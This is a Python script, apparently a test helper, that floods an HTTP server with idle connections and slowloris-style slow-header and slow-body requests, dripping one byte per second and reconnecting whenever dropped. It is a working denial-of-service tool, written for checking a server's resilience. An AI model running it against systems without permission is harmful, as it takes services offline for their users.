"""Clients that mean no good, in a process of their own: `python attack.py HOST PORT IDLE SLOW_HEADS SLOW_BODIES`.

Says `ready` once all are connected, goes on until its stdin ends. Whoever is thrown out comes back.
"""

import asyncio
import contextlib
import resource
import sys

GAP_S = 1.0


async def idle(host: str, port: int) -> None:
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(b"GET /healthz HTTP/1.1\r\nhost: a\r\n\r\n")
    up()
    while await reader.read(4096):
        pass


async def slow_head(host: str, port: int) -> None:
    await drip(host, port, b"POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\nx-a: ")


async def slow_body(host: str, port: int) -> None:
    await drip(host, port, b"POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n{")


async def drip(host: str, port: int, first: bytes) -> None:
    """A beginning, and then one byte a second."""
    _, writer = await asyncio.open_connection(host, port)
    up()
    try:
        writer.write(first)
        while not writer.transport.is_closing():
            await asyncio.sleep(GAP_S)
            writer.write(b"x")
    finally:
        writer.close()


async def again(attack: object, host: str, port: int, wait_s: float) -> None:
    await asyncio.sleep(wait_s)
    while True:
        with contextlib.suppress(OSError):
            await attack(host, port)  # type: ignore[operator]
        await asyncio.sleep(0.1)


left = 0
begun = asyncio.Event()


def up() -> None:
    global left
    left -= 1
    if left == 0:
        begun.set()


async def main() -> None:
    global left
    host, port, *counts = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    left = sum(map(int, counts))
    tasks = []
    for attack, count in zip((idle, slow_head, slow_body), map(int, counts), strict=True):
        # Spread over a second, so that their bytes do not all come at the same moment.
        tasks += [asyncio.create_task(again(attack, host, int(port), n / count)) for n in range(count)]
    await begun.wait()
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    for task in tasks:
        task.cancel()


if __name__ == "__main__":
    import uvloop

    uvloop.run(main())
